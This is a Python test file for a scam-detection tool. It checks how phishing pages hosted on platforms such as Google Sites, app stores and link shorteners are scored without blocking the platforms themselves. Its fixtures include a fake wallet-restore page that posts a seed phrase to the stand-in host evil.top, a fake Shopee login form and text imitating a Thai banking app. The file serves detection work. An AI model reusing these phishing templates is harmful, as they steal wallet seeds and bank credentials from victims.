"""What is judged of a tenant: his own page and name, and nothing of the platform's or the store's."""

import pytest
from msgspec.structs import replace

from scamtriage.assess import assess
from scamtriage.knowledge.hosts import infrastructure, lent_names
from scamtriage.knowledge.small_tables import small_tables
from scamtriage.records.assessment import Assessment, Verdict
from scamtriage.records.evidence import Dossier, Mode
from scamtriage.records.target import Target
from scamtriage.render import disclosure
from scamtriage.signals.view import View
from scamtriage.targets.parse import parse_target
from tests.judgement.sites import dossier
from tests.signals.rows import RULES, nats, row

SEED_PHRASE = (
    "<title>Wallet restore</title><h1>Restore your wallet</h1><p>Enter your 12 word seed phrase to synchronise your wallet and restore "
    'access to your funds.</p><form action="https://evil.top/x" method="post"><textarea name="seed" placeholder="recovery phrase">'
    "</textarea></form>"
)

TENANTS = [
    "https://sites.google.com/view/wallet-restore",
    "https://docs.google.com/forms/d/e/x/viewform",
    "https://forms.office.com/r/abc",
    "https://forms.microsoft.com/r/abc",
    "https://lookerstudio.google.com/reporting/abc",
    "https://www.surveymonkey.com/r/abc",
    "https://peraichi.com/landing_pages/view/abc",
    "https://discord.gg/abc",
    "https://user.qzone.qq.com/123",
    "https://m.facebook.com/restore",
    "https://telegra.ph/restore",
    "https://linktr.ee/restore",
    "https://play.google.com/store/apps/details?id=com.restore.wallet",
    "https://apps.apple.com/th/app/wallet-restore/id1234567890",
    "https://testflight.apple.com/join/AbCdEfGh",
    "https://bom.so/restore",
]


@pytest.mark.parametrize("url", TENANTS)
def test_what_a_tenant_does_is_judged_as_anywhere_else_and_the_platform_is_never_blocked(url: str) -> None:
    judged = row(url, SEED_PHRASE)
    elsewhere = row("https://restore.blogspot.com/", SEED_PHRASE)
    assert min(judged.verdict.rank, elsewhere.verdict.rank) >= Verdict.LIKELY_SCAM.rank
    assert judged.log_odds == pytest.approx(elsewhere.log_odds, abs=1)  # the name has its own few tenths of a nat
    assert "official" not in judged.states
    assert not [signal for signal in nats(judged) if signal.startswith(("ben-", "rep-age", "name-"))]
    assert not disclosure.host_can_be_blocked(judged)
    assert disclosure.registration(judged) is None
    assert all(route.kind != "registrar" for route in judged.report_to)


LOG_IN = (
    "<title>Shopee Thailand | ซื้อขายผ่านมือถือ</title><meta property='og:site_name' content='Shopee'><h1>Shopee</h1><p>ช้อปออนไลน์ ส่งฟรี โค้ดลด</p>"
    "<form action='/login' method=post><input name=login placeholder='เบอร์โทร / อีเมล'><input type=password name=p></form><p>© 2026 Shopee"
)


@pytest.mark.parametrize(("landing", "accused"), [("shopee.co.th", False), ("shopee-login.co.th", True)])
def test_a_short_link_to_a_branch_whose_pages_bear_the_name_of_the_house(landing: str, accused: bool) -> None:
    target = parse_target("https://bit.ly/3AbCdEf")
    assert isinstance(target, Target)
    found = dossier({"host": landing, "html": LOG_IN, "age_days": 200})
    judged = assess(replace(found, target=target), RULES)
    assert isinstance(judged, Assessment) and judged.landed == landing
    assert ("content-brand-mismatch" in nats(judged)) is accused
    assert (judged.verdict.rank >= Verdict.SUSPICIOUS.rank) is accused


LISTED = (
    "<title>K PLUS</title><h1>K PLUS</h1><p>KASIKORNBANK PCL. แอปธนาคารกสิกรไทย โอนเงิน เติมเงิน จ่ายบิล"
    " สมัครสินเชื่อ ลงทุนกองทุน ลงทะเบียนง่าย ๆ ด้วยบัตรประชาชน ยืนยันตัวตนด้วยรหัส OTP และ PIN เพื่อปลดล็อกบัญชี"
    " ติดต่อ 02-888-8888</p><button>ติดตั้ง</button>"
)


@pytest.mark.parametrize("url", [url for url in TENANTS if infrastructure.is_app_store(url.split("/")[2])])
def test_an_app_in_a_store_is_neither_accused_nor_acquitted_by_its_words(url: str) -> None:
    assert row("https://kplus-app.blogspot.com/", LISTED).verdict.rank >= Verdict.SUSPICIOUS.rank
    judged = row(url, LISTED)
    assert judged.verdict is Verdict.UNDETERMINED and "store-page" in judged.held_by and "needs-human" in judged.states
    assert "official" not in judged.states and not disclosure.host_can_be_blocked(judged)
    garden = "<h1>Suan Garden</h1><p>Water your orchids twice a week. The app draws when, and works without a network.</p>" * 3
    assert row(url, garden).verdict is not Verdict.LIKELY_BENIGN


@pytest.mark.parametrize(
    ("url", "landing", "held"),
    [
        ("https://bom.so/restore", "apps.apple.com", True),
        ("https://apps.apple.com/th/app/x/id1", "kplus-app.blogspot.com", False),
        ("https://bom.so/restore", "kplus-app.blogspot.com", False),
        ("https://play.google.com.kplus.app/", "play.google.com.kplus.app", False),
        ("https://kplus-app.top/", "play.google.com", False),
    ],
)
def test_the_page_of_a_store_is_what_is_shown_there_by_itself_or_by_a_short_link(url: str, landing: str, held: bool) -> None:
    target = parse_target(url)
    assert isinstance(target, Target)
    judged = assess(replace(dossier({"host": landing, "html": LISTED, "age_days": 20}), target=target), RULES)
    assert isinstance(judged, Assessment)
    assert ("store-page" in judged.held_by, judged.verdict.rank >= Verdict.SUSPICIOUS.rank) == (held, not held)


def test_a_box_for_letters_makes_no_site_of_a_stores_page_and_one_for_a_password_does() -> None:
    offer = f"{LISTED}<p>ยืนยันบัญชีด้วยรหัส OTP เพื่อเปิดใช้งานทันที</p>"
    letters, secret = (f"{offer}<form><input type={kind} name={kind}></form>" for kind in ("email", "password"))
    assert "store-page" in row("https://apkpure.com/x/y", letters).held_by
    assert "store-page" not in row("https://apkpure.com/x/y", secret).held_by


def test_every_app_store_is_a_shared_name() -> None:
    assert all(lent_names.is_tenants(host) for host in small_tables().app_stores.domains)


@pytest.mark.parametrize("url", TENANTS)
def test_of_a_tenants_address_alone_nothing_is_known(url: str) -> None:
    target = parse_target(url)
    judged = assess(Dossier(line=1, input=url, target=target, mode=Mode.OFFLINE, evidence={}), RULES)
    assert isinstance(judged, Assessment)
    assert judged.verdict is Verdict.NO_FINDING
    assert not judged.contributions


@pytest.mark.parametrize(
    "url",
    [
        "https://www.facebook.com/",
        "https://facebook.com/login.php?next=x",
        "https://accounts.google.com/signin/v2",
        "https://business.facebook.com/overview",
        "https://www.microsoft.com/en-us/windows",
        "https://www.apple.com/app-store/",
        "https://apps.apple.com/",
        "https://zoom.us/download",
        "https://shopee.co.th/login",
    ],
)
def test_the_platforms_own_pages_stay_official(url: str) -> None:
    assert "official" in row(url, "<title>Facebook</title><h1>Facebook</h1><form><input type=password></form>").states


def test_the_platforms_name_in_its_own_frame_is_no_claim_of_the_tenant() -> None:
    html = '<title>The bakery - Facebook</title><meta property="og:site_name" content="Facebook"><p>Bread and cakes since 1998.</p>'
    html += "<form action=/login><input type=password></form><p>Facebook © 2026"
    found = nats(row("https://www.facebook.com/thebakery", html))
    assert not found.keys() & {"content-brand-mismatch", "name-brand-embedded", "combo-brand-ask"}


def test_what_stands_left_of_a_lent_name_still_speaks() -> None:
    assert "name-brand-embedded" in nats(row("https://evil-maybank.my.canva.site/x", SEED_PHRASE))


@pytest.mark.parametrize(
    ("host", "theirs"),
    [
        ("sites.google.com", True),
        ("mail.google.com", False),
        ("www.facebook.com", True),
        ("developers.facebook.com", False),
        ("a.developers.facebook.com", False),
        ("bit.ly", True),
        ("linktr.ee", True),
        ("maybank2u.com.my", False),
    ],
)
def test_where_tenants_lie_is_told_from_where_the_service_speaks(host: str, theirs: bool) -> None:
    assert lent_names.is_tenants(host) is theirs


@pytest.mark.parametrize(
    ("host", "posts_to", "foreign"),
    [
        ("restore.blogspot.com", "taker.blogspot.com", True),
        ("restore.workers.dev", "taker.workers.dev", True),
        ("restore.com.my", "taker.com.my", True),
        ("www.restore.workers.dev", "api.restore.workers.dev", False),
        ("www.restore.com.my", "api.restore.com.my", False),
        ("restore.com", "pay.stripe.com", False),
    ],
)
def test_what_two_tenants_or_a_country_share_makes_them_no_one_site(host: str, posts_to: str, foreign: bool) -> None:
    field = "<input type=password name=p>"
    html = f'<title>Log in</title><p>Log in to your account.</p><form action="https://{posts_to}/x" method=post>{field}</form>'
    assert ("http-form-foreign-post" in nats(row(f"https://{host}/", html))) is foreign


@pytest.mark.parametrize(
    ("given", "lent"),
    [
        *((url, True) for url in TENANTS[:3]),
        ("evil.github.io", True),
        ("bakery.web.app", True),
        ("bakery.duckdns.org", True),
        ("bakery.com", False),
        ("https://sites.google.com/", False),
        ("https://93.184.215.14/view/wallet-restore", False),
        ("https://[2606:2800:21f:cb07:6820:80da:af6b:8b2c]/view/wallet-restore", False),
    ],
)
def test_a_name_is_lent_to_the_measures_and_to_the_reports_alike(given: str, lent: bool) -> None:
    """Three rooms asked this in their own words. An address is lent by nobody."""
    target = parse_target(given)
    assert isinstance(target, Target)
    assert lent_names.is_lent(target) is lent
    assert View(Dossier(line=1, input=given, target=target, mode=Mode.OFFLINE), RULES.tables).lent is lent
